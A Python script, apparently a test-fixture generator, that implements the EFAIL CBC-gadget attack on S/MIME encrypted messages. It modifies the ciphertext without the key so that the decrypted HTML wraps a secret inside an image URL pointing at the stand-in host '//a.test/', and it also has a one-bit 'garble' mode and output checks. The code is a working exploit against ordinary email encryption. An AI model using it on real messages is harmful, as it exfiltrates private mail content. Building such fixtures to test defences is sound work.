#!/usr/bin/env python3
"""EFAIL CBC gadgets on an S/MIME EnvelopedData (DER), for regenerate.sh.

Poddebniak et al., "Efail: Breaking S/MIME and OpenPGP Email Encryption
using Exfiltration Channels", USENIX Security 2018, section 3: CBC decrypts
P_i = D(C_i) xor C_(i-1). Whoever knows one plaintext block P_0 (here the
first 16 octets of the MIME entity, "Content-Type: te") can, without the
key, make the pair (X, C_0) decrypt to 16 random octets followed by any
chosen 16 octets T (X = P_0 xor IV xor T), and change the IV to choose the
first block itself. Only the ciphertext is changed; the content key stays.

  efail_gadget.py exfiltrate IN.der PLAINTEXT OUT.der
      keep the blocks holding the header and the page up to the secret,
      then insert two gadgets: `   <img ignore="` + random + `" src="//a.test/`,
      so that the secret after them becomes the image URL.
  efail_gadget.py garble IN.der PLAINTEXT OUT.der
      change one IV bit: the first line becomes `Content-Tyqe: text/html`.
  efail_gadget.py check-exfiltrate DECRYPTED   (exit 0: the gadget works)
  efail_gadget.py check-garble DECRYPTED

Only the Python standard library; DER with definite lengths (what
`openssl cms -encrypt -outform DER` writes).
"""
import sys

BLOCK = 16
FIRST = b"Content-Type: te"
T1 = b'   <img ignore="'
T2 = b'" src="//a.test/'
SECRET = b"THE SECRET: the vault code is 4711-0815"


def tlv(b, pos):
    """(tag, header length, content length) of the TLV at pos."""
    tag = b[pos]
    n = b[pos + 1]
    if n < 0x80:
        return tag, 2, n
    k = n & 0x7F
    return tag, 2 + k, int.from_bytes(b[pos + 2 : pos + 2 + k], "big")


def children(b, start, end):
    out = []
    pos = start
    while pos < end:
        tag, h, n = tlv(b, pos)
        out.append((tag, pos, h, n))
        pos += h + n
    return out


def encode(tag, content):
    n = len(content)
    if n < 0x80:
        head = bytes([tag, n])
    else:
        ln = n.to_bytes((n.bit_length() + 7) // 8, "big")
        head = bytes([tag, 0x80 | len(ln)]) + ln
    return head + content


def rebuild(der, iv, ciphertext):
    """The same ContentInfo with a new IV and encryptedContent."""
    _, h, n = tlv(der, 0)
    ci = children(der, h, h + n)  # contentType, [0]
    t0, p0, h0, n0 = ci[1]
    _, ph, hh, nh = children(der, p0 + h0, p0 + h0 + n0)[0]  # EnvelopedData
    env = children(der, ph + hh, ph + hh + nh)
    new_env = b""
    for tag, p, hl, nl in env:
        raw = der[p : p + hl + nl]
        if tag == 0x30:  # EncryptedContentInfo
            eci = children(der, p + hl, p + hl + nl)
            ctype = der[eci[0][1] : eci[0][1] + eci[0][2] + eci[0][3]]
            _, ap, ah, an = eci[1]
            alg = children(der, ap + ah, ap + ah + an)
            oid = der[alg[0][1] : alg[0][1] + alg[0][2] + alg[0][3]]
            assert eci[2][0] == 0x80, "primitive [0] encryptedContent expected"
            raw = encode(
                0x30,
                ctype + encode(0x30, oid + encode(0x04, iv)) + encode(0x80, ciphertext),
            )
        new_env += raw
    inner = encode(0x30, new_env)
    ctype = der[ci[0][1] : ci[0][1] + ci[0][2] + ci[0][3]]
    return encode(0x30, ctype + encode(0xA0, inner))


def iv_and_ciphertext(der):
    _, h, n = tlv(der, 0)
    ci = children(der, h, h + n)
    _, p0, h0, n0 = ci[1]
    _, ph, hh, nh = children(der, p0 + h0, p0 + h0 + n0)[0]
    for tag, p, hl, nl in children(der, ph + hh, ph + hh + nh):
        if tag == 0x30:
            eci = children(der, p + hl, p + hl + nl)
            _, ap, ah, an = eci[1]
            alg = children(der, ap + ah, ap + ah + an)
            _, ip, ih, inl = alg[1]
            _, cp, chl, cn = eci[2]
            return der[ip + ih : ip + ih + inl], der[cp + chl : cp + chl + cn]
    raise SystemExit("no EncryptedContentInfo")


def xor(*bs):
    out = bytearray(BLOCK)
    for b in bs:
        for i in range(BLOCK):
            out[i] ^= b[i]
    return bytes(out)


def main():
    mode = sys.argv[1]
    if mode.startswith("check-"):
        pt = open(sys.argv[2], "rb").read()
        if mode == "check-garble":
            ok = pt.startswith(b"Content-Tyqe: text/html")
        else:
            i, j = pt.find(T1), pt.find(T2)
            s = pt.find(SECRET)
            ok = (
                0 < i < j < s
                # the random block before T1 opens no tag, the one inside
                # ignore="..." and the one before the secret end no value
                and b"<" not in pt[i - BLOCK : i]
                and b'"' not in pt[i + BLOCK : j]
                and b'"' not in pt[j + BLOCK : s]
            )
        sys.exit(0 if ok else 1)
    der = open(sys.argv[2], "rb").read()
    plain = open(sys.argv[3], "rb").read()
    assert plain.startswith(FIRST), "the first plaintext block must be known"
    iv, ct = iv_and_ciphertext(der)
    blocks = [ct[i : i + BLOCK] for i in range(0, len(ct), BLOCK)]
    if mode == "garble":
        # 'p' -> 'q' in "Content-Type": one bit of the IV.
        iv = xor(iv, FIRST, b"Content-Tyqe: te")
        out = rebuild(der, iv, ct)
    elif mode == "exfiltrate":
        # Keep every block before the one holding the first '.' of the
        # filler before the secret: that block (k) is garbled by the splice.
        k = plain.find(b"................") // BLOCK + 1
        c0 = blocks[0]
        x1 = xor(FIRST, iv, T1)
        x2 = xor(FIRST, iv, T2)
        new = blocks[:k] + [x1, c0, x2, c0] + blocks[k:]
        out = rebuild(der, iv, b"".join(new))
    else:
        raise SystemExit("unknown mode " + mode)
    open(sys.argv[4], "wb").write(out)


if __name__ == "__main__":
    main()
